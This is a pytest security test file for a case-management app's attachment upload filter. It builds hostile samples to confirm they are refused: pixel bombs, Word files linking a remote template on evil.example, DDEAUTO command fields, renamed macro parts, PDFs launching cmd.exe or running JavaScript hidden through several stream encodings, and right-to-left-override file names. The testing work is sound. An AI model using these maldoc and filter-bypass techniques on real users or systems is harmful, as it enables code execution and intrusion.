"""What an upload may be, found by the attack review: a picture is refused by its pixel count before
anything is decoded, at most a few are decoded at once, documents that run something or reach
outside themselves are refused, and names lose the characters that disguise them."""
from __future__ import annotations

import io
import threading
import zipfile
import zlib

import pytest

from border_referral.files import uploads


@pytest.fixture
def case_id(api):
    r = api().post("/api/v1/cases", json={"person": {"full_name": "Nang Hom", "sex": "female", "nationality": "MM"}})
    return r.json["id"]


def attach(api, case_id, raw: bytes, name: str):
    return api().post(f"/api/v1/cases/{case_id}/attachments", data={"file": (io.BytesIO(raw), name)},
                      content_type="multipart/form-data")


def png(width: int, height: int) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG")
    return out.getvalue()


def stored(demo, case_id) -> int:
    from sqlalchemy import func, select

    from border_referral.cases.models import Attachment
    from border_referral.database import session_scope

    with demo.app_context(), session_scope() as s:
        return s.execute(select(func.count()).select_from(Attachment).where(Attachment.case_id == case_id)).scalar_one()


def test_a_picture_with_too_many_pixels_is_refused_before_it_is_decoded(api, case_id, demo, monkeypatch):
    from PIL import Image

    bomb = png(9400, 9400)  # 88 megapixels in a few hundred kilobytes
    assert len(bomb) < 2_000_000
    decoded = []
    monkeypatch.setattr(Image.Image, "load", lambda self, *a, **k: decoded.append(self.size))
    r = attach(api, case_id, bomb, "map.png")
    assert r.status_code == 413 and r.json["error"]["code"] == "too_many_pixels"
    assert "40" in r.json["error"]["message"]
    assert decoded == []  # refused from the header, nothing decoded
    assert stored(demo, case_id) == 0


def test_an_ordinary_photo_is_still_accepted(api, case_id, demo):
    r = attach(api, case_id, png(800, 600), "photo.png")
    assert r.status_code == 201 and stored(demo, case_id) == 1


def test_pictures_wait_for_a_free_slot_and_are_refused_when_none_frees(api, case_id, demo, monkeypatch):
    demo.config["IMAGE_WORK_WAIT_SECONDS"] = 0.2
    slots = threading.BoundedSemaphore(1)
    monkeypatch.setattr(uploads, "_image_slots", slots)
    slots.acquire()  # another upload is being decoded
    try:
        r = attach(api, case_id, png(80, 60), "photo.png")
    finally:
        slots.release()
    assert r.status_code == 503 and r.json["error"]["code"] == "busy"
    assert attach(api, case_id, png(80, 60), "photo.png").status_code == 201  # and then it works


def docx(external: bool = False, macro: bool = False) -> bytes:
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    raw = out.getvalue()
    if not (external or macro):
        return raw
    src, dst = zipfile.ZipFile(io.BytesIO(raw)), io.BytesIO()
    with zipfile.ZipFile(dst, "w") as z:
        for item in src.infolist():
            data = src.read(item.filename)
            if external and item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.'
                                    b'org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
                                    b' TargetMode="External"/></Relationships>')
            z.writestr(item, data)
        if macro:
            z.writestr("word/vbaProject.bin", b"\x00" * 64)
    return dst.getvalue()


@pytest.mark.parametrize("kind", ["external", "macro"])
def test_a_word_document_that_reaches_outside_or_carries_macros_is_refused(api, case_id, kind):
    assert attach(api, case_id, docx(), "letter.docx").status_code == 201
    r = attach(api, case_id, docx(**{kind: True}), "letter.docx")
    assert r.status_code == 415 and r.json["error"]["code"] == "active_content"


def pdf(body: bytes) -> bytes:
    return b"%PDF-1.4\n1 0 obj\n" + body + b"\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


@pytest.mark.parametrize("body", [
    b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    b"<< /Type /Catalog /Names << /J#61vaScript 2 0 R >> >>",  # a name written with #xx escapes
    b"<< /Length 40 /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"<< /S /Launch /F (cmd.exe) >>") + b"\nendstream",
])
def test_a_pdf_that_runs_something_is_refused_even_when_hidden(api, case_id, body):
    r = attach(api, case_id, pdf(body), "report.pdf")
    assert r.status_code == 415 and r.json["error"]["code"] == "active_content"


def test_a_plain_pdf_is_accepted(api, case_id):
    assert attach(api, case_id, pdf(b"<< /Type /Catalog /Pages 2 0 R >>"), "report.pdf").status_code == 201


@pytest.mark.parametrize("name, shown", [
    ("invoice\u202Efdp.exe", "invoicefdp.txt"),           # right-to-left override
    ("ราย\u200bงาน\u2066.txt", "รายงาน.txt"),               # zero-width space, isolate
    ("a\x07b.txt", "ab.txt"),
])
def test_names_lose_the_characters_that_disguise_them(name, shown):
    assert uploads.safe_name(name, "text/plain") == shown


# ---------------------------------------------------------------- bypasses found by the security review

def test_fixed_a_pdf_full_of_unclosed_streams_is_refused_without_hanging_the_server(api, case_id):
    r = attach(api, case_id, b"%PDF-1.7\n" + b"stream\n" * 80000, "slow.pdf")
    assert r.status_code == 415 and r.json["error"]["code"] == "unreadable_pdf"


def _stream(filters: bytes, payload: bytes, eol: bytes = b"\n") -> bytes:
    return b"<< /Length %d /Filter %s >>\nstream%s" % (len(payload), filters, eol) + payload + b"\nendstream"


JS = b"<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"


@pytest.mark.parametrize("body", [
    _stream(b"/ASCIIHexDecode", JS.hex().encode() + b">"),
    _stream(b"/ASCII85Decode", __import__("base64").a85encode(JS) + b"~>"),
    _stream(b"[/ASCII85Decode /FlateDecode]", __import__("base64").a85encode(zlib.compress(JS)) + b"~>"),
    _stream(b"/FlateDecode", zlib.compress(JS), eol=b"\r"),
], ids=["hex", "a85", "a85+flate", "cr-only"])
def test_fixed_javascript_in_any_stream_encoding_is_found(api, case_id, body):
    r = attach(api, case_id, pdf(body), "report.pdf")
    assert r.status_code == 415 and r.json["error"]["code"] == "active_content"


def test_fixed_a_pdf_stream_in_an_encoding_we_do_not_read_is_not_vouched_for(api, case_id):
    r = attach(api, case_id, pdf(_stream(b"/LZWDecode", b"\x80\x0b\x60\x50")), "report.pdf")
    assert r.status_code == 415 and r.json["error"]["code"] == "unreadable_pdf"


def test_pictures_inside_a_pdf_are_fine(api, case_id):
    body = _stream(b"/DCTDecode", b"\xff\xd8\xff/JS-looking bytes in a JPEG\xff\xd9")
    assert attach(api, case_id, pdf(body), "scan.pdf").status_code == 201


EXTERNAL_REL = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="%s"/>')


def _docx_with(change) -> bytes:
    src, dst = zipfile.ZipFile(io.BytesIO(docx())), io.BytesIO()
    with zipfile.ZipFile(dst, "w") as z:
        for item in src.infolist():
            for name, data in change(item.filename, src.read(item.filename)):
                z.writestr(name, data)
    return dst.getvalue()


def _rels(mode: bytes, *, upper=False, utf16=False, pad=0):
    def change(name, data):
        if name != "word/_rels/document.xml.rels":
            return [(name, data)]
        data = data.replace(b"</Relationships>", b"<!--" + b"x" * pad + b"-->" + EXTERNAL_REL % mode + b"</Relationships>")
        if utf16:
            data = data.replace(b"encoding='UTF-8'", b"encoding='UTF-16'").decode().encode("utf-16")
        return [(name.upper() if upper else name, data)]
    return change


@pytest.mark.parametrize("change", [
    _rels(b"External", upper=True),                       # .RELS: part names are case-insensitive
    _rels(b"&#69;xternal"),                               # a character reference
    _rels(b"External", utf16=True),                       # another encoding
    _rels(b"External", pad=3_000_000),                    # after 2 MB of padding
    lambda name, data: [(name, data)] + ([("word/_rels/document.xml.rels", _rels(b"External")(name, data)[0][1])]
                                         if name == "word/_rels/document.xml.rels" else []),  # a second part of the same name
    lambda name, data: [(name, data.replace(b"</w:body>", b'<w:p><w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText>'
                                                      b'</w:r></w:p></w:body>'))],           # a field that runs a command
    lambda name, data: [(name, data.replace(b"</Relationships>", b'<Relationship Id="rId98" Type="http://schemas.'
                                            b'microsoft.com/office/2006/relationships/vbaProject" Target="data.bin"/>'
                                            b'</Relationships>'))] if name.endswith("document.xml.rels") else [(name, data)],
    lambda name, data: [(name, data.replace(b"<Relationships", b'<!DOCTYPE r [<!ENTITY m "External">]><Relationships', 1)
                         .replace(b"</Relationships>", EXTERNAL_REL % b"&m;" + b"</Relationships>"))]
    if name == "word/_rels/document.xml.rels" else [(name, data)],  # an entity that says External
], ids=["upper-case-rels", "char-ref", "utf16", "padded", "duplicate-part", "ddeauto", "renamed-macro-part", "entity"])
def test_fixed_word_documents_that_hide_external_links_or_code_are_refused(api, case_id, change):
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name on purpose
        raw = _docx_with(change)
    r = attach(api, case_id, raw, "letter.docx")
    assert r.status_code == 415, r.json
